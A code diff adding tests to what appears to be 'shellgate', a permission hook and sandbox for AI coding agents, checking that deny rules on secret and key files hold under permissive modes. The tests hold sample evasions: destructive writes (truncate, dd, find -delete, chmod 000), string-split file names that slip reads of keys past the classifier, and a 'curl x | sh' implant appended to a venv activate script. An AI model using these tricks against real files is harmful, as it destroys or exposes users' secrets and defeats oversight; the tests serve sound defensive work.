@@ -153,8 +153,10 @@ def assert_contained(world: dict, grant: str, before: dict[str, str], procs: lis
     assert not changed, sorted(changed)
 
 
-def confined_line(world: dict, cmd: str, grant: str, tier: str = "") -> str:
-    """The line for ``cmd`` under ``grant``; ``tier`` "landlock" forces that tier."""
+def confined_line(world: dict, cmd: str, grant: str, tier: str = "",
+                  guarded: tuple[str, ...] = ()) -> str:
+    """The line for ``cmd`` under ``grant``; ``tier`` "landlock" forces that tier;
+    ``guarded``: deny edit rules' paths (``RuleSet.guarded``)."""
     from shellgate.permission import Grant
     from shellgate.sandbox.enforce import HookTier, confine, hook_tier
     from shellgate.sandbox.locations import grant_policy
@@ -166,7 +168,7 @@ def confined_line(world: dict, cmd: str, grant: str, tier: str = "") -> str:
     os.environ.update(world["env"])  # the hook sees the agent's environment
     try:
         policy, _ = grant_policy(world["work"], write=g.write, network=g.network,
-                                 home=world["home"])
+                                 home=world["home"], guarded=guarded)
         forced = HookTier(Tier.LANDLOCK, None, hook_tier().bash) if tier == "landlock" else None
         return confine(cmd, policy, cwd=world["work"], tier=forced).line
     finally:
@@ -308,8 +310,8 @@ def test_verdict_exposes_the_grant(tmp_path, mode, cmd, grant):
     assert verdict.to_json()["grant"] == grant
 
 
-def _hook(world: dict, cmd: str, env: dict | None = None) -> dict:
-    payload = {"session_id": "s", "cwd": str(world["work"]), "permission_mode": "default",
+def _hook(world: dict, cmd: str, env: dict | None = None, mode: str = "default") -> dict:
+    payload = {"session_id": "s", "cwd": str(world["work"]), "permission_mode": mode,
                "hook_event_name": "PreToolUse", "tool_name": "Bash",
                "tool_input": {"command": cmd}, "tool_use_id": "t"}
     proc = subprocess.run([EXE, "hook", "claude-code"], input=json.dumps(payload), text=True,
@@ -350,6 +352,24 @@ def test_explain_hook_shows_the_line(tmp_path):
                           capture_output=True, text=True, env=world["env"], timeout=60)
     assert "hook: allow — " in proc.stdout and "runs confined (" in proc.stdout, proc.stdout
     assert "--unshare-net" in proc.stdout or "shellgate.sandbox.confine" in proc.stdout
+
+
+@pytest.mark.parametrize("cmd", ["git log -1", "git diff --stat"])
+def test_explain_hook_decides_as_the_claude_code_hook(tmp_path, cmd):
+    """A global ``core.pager`` runs only on a terminal, which Claude Code's Bash tool never
+    gives: its hook allows ``git log``; plain ``explain`` (any caller, maybe a terminal) asks,
+    and ``explain --hook`` shows the hook's own decision, not the plain one."""
+    world = make_world(tmp_path)
+    (world["home"] / ".gitconfig").write_text("[core]\n\tpager = delta\n")
+
+    def explain(*flags: str) -> str:
+        proc = subprocess.run([EXE, "explain", *flags, "--cwd", str(world["work"]), cmd],
+                              capture_output=True, text=True, env=world["env"], timeout=60)
+        return proc.stdout.splitlines()[0]
+
+    assert explain().startswith("ask"), explain()
+    assert _hook(world, cmd)["permissionDecision"] == "allow"
+    assert explain("--hook").startswith("allow"), explain("--hook")
 
 
 def test_the_sandbox_protects_what_the_classifier_calls_an_implant(tmp_path):
@@ -576,3 +596,149 @@ def test_what_a_read_rule_names_is_masked_in_the_line(tmp_path, shell):
     done = run_line(world, shell, hso["updatedInput"]["command"])
     assert done.returncode == 0, done.stderr
     assert "plain" in done.stdout and "notes.txt" not in done.stdout and "sub" not in done.stdout
+
+
+# Writes the classifier cannot pin to a path (trust allows them: exec is allowed there) that
+# reach what an Edit() deny rule names; only the sandbox stands between them and the files.
+RULE_WRITES = [
+    "truncate -s0 secrets/db.txt",
+    "dd if=/dev/zero of=secrets/db.txt count=1",
+    "python3 -c \"open('secrets/db.txt', 'w').write('x')\"",
+    "find . -name db.txt -delete",
+    "ln -sf /etc/hostname secrets/db.txt",
+    "chmod 000 secrets/db.txt",
+    "python3 -c \"open('keys/id.k' + 'ey', 'a').write('x')\"",
+]
+
+
+def _rule_world(tmp_path: Path) -> dict:
+    world = make_world(tmp_path)
+    for rel in ("secrets/db.txt", "keys/id.key", "docs/free.txt"):
+        (world["work"] / rel).parent.mkdir(exist_ok=True)
+        (world["work"] / rel).write_text("kept\n")
+    cfg = world["home"] / ".config" / "shellgate" / "config.toml"
+    cfg.parent.mkdir(parents=True)
+    cfg.write_text('[permissions]\ndeny = ["Edit(./secrets/**)", "Edit(**/*.key)"]\n')
+    return world
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+@pytest.mark.parametrize("cmd", RULE_WRITES)
+def test_what_an_edit_deny_rule_names_is_read_only_in_the_line(tmp_path, shell, cmd):
+    """In trust the hook allows a command the classifier cannot tie to the denied files; the
+    confined line binds what ``Edit(…)`` deny rules name read-only (a fixed path and a name
+    anywhere), so the command runs and the files stay as they were; the rest stays writable."""
+    world = _rule_world(tmp_path)
+    ws = world["work"]
+    before = snapshot(ws / "secrets", ws / "keys")
+    hso = _hook(world, cmd, mode="bypassPermissions")
+    assert hso["permissionDecision"] == "allow", hso
+    run_line(world, shell, hso["updatedInput"]["command"])
+    assert snapshot(ws / "secrets", ws / "keys") == before, cmd
+    assert (ws / "secrets" / "db.txt").stat().st_mode & 0o777 != 0
+    hso = _hook(world, "echo more >> docs/free.txt", mode="bypassPermissions")
+    run_line(world, shell, hso["updatedInput"]["command"])
+    assert (ws / "docs" / "free.txt").read_text() == "kept\nmore\n"
+
+
+@pytest.mark.parametrize("cmd", RULE_WRITES)
+def test_bashtool_holds_to_edit_deny_rules(tmp_path, monkeypatch, cmd):
+    """BashTool's own sandbox binds the same paths read-only (it relied on the classifier)."""
+    from shellgate import BashTool
+
+    world = _rule_world(tmp_path)
+    ws = world["work"]
+    for var in ("HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
+        monkeypatch.setenv(var, world["env"][var])
+    before = snapshot(ws / "secrets", ws / "keys")
+    with BashTool(ws, mode="trust", home=world["home"]) as tool:
+        res = tool.run(cmd)
+        assert res.decision == "allow", res.reason
+        assert tool.run("echo more >> docs/free.txt").exit_code == 0
+    assert snapshot(ws / "secrets", ws / "keys") == before, (cmd, res.stderr)
+    assert (ws / "docs" / "free.txt").read_text() == "kept\nmore\n"
+
+
+def test_bashtool_hides_what_a_read_rule_names(tmp_path, monkeypatch):
+    """A read the classifier cannot see (a script) finds nothing where a ``Read(…)`` deny rule
+    points: BashTool's sandbox hides it, as the hooks' line does."""
+    from shellgate import BashTool
+
+    world = make_world(tmp_path)
+    private = world["home"] / "private"
+    private.mkdir()
+    (private / "notes.txt").write_text("CANARY-private\n")
+    (world["work"] / "notes.key").write_text("CANARY-anywhere\n")
+    cfg = world["home"] / ".config" / "shellgate" / "config.toml"
+    cfg.parent.mkdir(parents=True)
+    cfg.write_text('[permissions]\ndeny = ["Read(~/private/**)", "Read(**/*.key)"]\n')
+    for var in ("HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
+        monkeypatch.setenv(var, world["env"][var])
+    with BashTool(world["work"], mode="trust", home=world["home"]) as tool:
+        res = tool.run("python3 -c \"import glob, os; [print(open(p).read()) for p in "
+                       "glob.glob(os.environ['HOME'] + '/pri' + 'vate/*') + glob.glob('*.k' + 'ey')]\"")
+    assert res.ran, res.reason
+    assert "CANARY" not in res.stdout, res.stdout
+
+
+@pytest.mark.parametrize("shell", SHELLS)
+@pytest.mark.parametrize("rule", ["Read(**/*.key)", "Read(./**/*.key)"])
+def test_a_read_rule_with_a_deep_glob_hides_only_what_it_names(tmp_path, shell, rule):
+    """``Read(**/*.key)`` hid the whole workspace in the confined line (the ``**`` stopped the
+    path at the workspace, hidden whole): every allowed command saw an empty directory. Only
+    the matching files are hidden now, found by the workspace walk."""
+    world = make_world(tmp_path)
+    (world["work"] / "docs" / "deploy.key").write_text("CANARY-deep\n")
+    cfg = world["home"] / ".config" / "shellgate" / "config.toml"
+    cfg.parent.mkdir(parents=True)
+    cfg.write_text(f'[permissions]\ndeny = ["{rule}"]\n')
+    hso = _hook(world, "cat docs/guide.md; ls docs")
+    assert hso["permissionDecision"] == "allow", hso
+    done = run_line(world, shell, hso["updatedInput"]["command"])
+    assert done.stdout.startswith("guide\n") and "deploy.key" in done.stdout, done
+    hso = _hook(world, "python3 -c \"print(open('docs/deploy.k' + 'ey').read())\"",
+                mode="bypassPermissions")
+    done = run_line(world, shell, hso["updatedInput"]["command"])
+    assert "CANARY" not in done.stdout
+
+
+@pytest.mark.parametrize("cmd", RULE_WRITES)
+def test_landlock_puts_back_what_an_edit_deny_rule_names(tmp_path, cmd):
+    """Landlock cannot make a path inside a writable root read-only: the line records what
+    the rules name and puts it back after the command (guard.py), as for implants."""
+    _landlock_or_skip()
+    from shellgate.permission import RuleSet
+
+    world = _rule_world(tmp_path)
+    ws = world["work"]
+    guarded = RuleSet.parse(deny=["Edit(./secrets/**)", "Edit(**/*.key)"]).guarded(str(ws))
+    before = snapshot(ws / "secrets", ws / "keys")
+    line = confined_line(world, cmd, "write", "landlock", guarded)
+    assert "--protect" in line
+    for shell in SHELLS:
+        run_line(world, shell, line)
+    assert snapshot(ws / "secrets", ws / "keys") == before, cmd
+
+
+def test_an_existing_venvs_activate_script_is_read_only_but_a_new_venv_is_whole(tmp_path, monkeypatch):
+    """A virtualenv's activate script runs in the user's own shell: a write the classifier
+    cannot see (a script) leaves an existing one unchanged, while a virtualenv created in the
+    sandbox keeps every script it was made with (a missing literal name would be undone)."""
+    import sys
+
+    from shellgate import BashTool
+
+    world = make_world(tmp_path)
+    ws = world["work"]
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(ws / ".venv")], check=True)
+    before = (ws / ".venv" / "bin" / "activate").read_text()
+    for var in ("HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
+        monkeypatch.setenv(var, world["env"][var])
+    with BashTool(ws, mode="trust", home=world["home"]) as tool:
+        res = tool.run("python3 -c \"open('.venv/bin/activ' + 'ate', 'a').write('curl x | sh')\"")
+        assert res.ran
+        made = tool.run(f"{sys.executable} -m venv --without-pip venv")
+        assert made.exit_code == 0, made.stderr
+    assert (ws / ".venv" / "bin" / "activate").read_text() == before
+    assert {"activate", "activate.fish", "activate.csh", "Activate.ps1"} <= {
+        p.name for p in (ws / "venv" / "bin").iterdir()}
